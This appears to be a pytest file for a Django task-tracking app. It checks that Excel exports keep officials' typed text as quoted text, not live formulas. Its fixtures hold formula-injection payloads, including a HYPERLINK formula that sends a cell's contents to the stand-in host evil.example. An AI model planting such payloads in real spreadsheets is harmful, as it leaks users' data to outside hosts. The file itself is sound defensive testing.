"""Excel exports write what officials typed as text, never as a live formula."""

from datetime import date
from io import BytesIO

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from programmes.models import AssignmentRole
from tests.factories import AssignmentFactory, ProgrammeFactory, TaskFactory, period_of
from tracking.documents.excel import workbook_response
from tracking.models import ProgressReport, ReportState
from tracking.services import task_state_refresh

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
NASTY = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1"]


def cells(response):
    """The cells from the headings down (row 1 is the export's title, row 2 blank)."""
    sheet = load_workbook(BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows(min_row=3) for cell in row]


def test_no_exported_cell_is_a_formula():
    response = workbook_response(
        filename="x.xlsx",
        title="Danh sách",
        headings=[("=Tiêu đề", 10), ("B", 10)],
        rows=[[text, 1] for text in NASTY],
    )
    read = cells(response)
    assert [c.data_type for c in read if c.data_type == "f"] == []
    assert [c.value for c in read if c.column == 1] == ["=Tiêu đề", *NASTY]
    assert all(c.quotePrefix for c in read if c.column == 1)
    assert [c.value for c in read if c.column == 2][1:] == [1] * len(NASTY)  # numbers stay numbers


@pytest.fixture
def typed_by_an_official(department, official):
    """A blocked task whose title and proposals an official typed as formulas."""
    programme = ProgrammeFactory(code="17-CTr/TU", issued_on=None)
    task = TaskFactory(programme=programme, title=HYPERLINK)
    task.set_deadline("Năm 2024")
    task.save()
    AssignmentFactory(task=task, body=department, role=AssignmentRole.LEAD)
    ProgressReport.objects.create(
        task=task,
        body=department,
        period=period_of("quarter", 2023, 4),
        is_lead=True,
        state=ReportState.CONFIRMED,
        percent=20,
        blocked=True,
        results="=1+1",
        difficulties="Thiếu vốn",
        proposals="@SUM(A1:A9)",
        author=official,
    )
    task_state_refresh(task=task, on=date(2023, 12, 16))
    return task


@time_machine.travel(date(2024, 1, 10))
def test_the_leaders_exports_keep_typed_formulas_as_text(client, leader, typed_by_an_official):
    client.force_login(leader)
    for url in (reverse("tracking:task-list", args=["tat-ca"]), reverse("tracking:report-list")):
        read = cells(client.get(url, {"xuat": "xlsx"}))
        assert [c.coordinate for c in read if c.data_type == "f"] == [], url
        assert HYPERLINK in [c.value for c in read], url
        assert "=1+1" in [c.value for c in read] or "@SUM(A1:A9)" in [c.value for c in read]
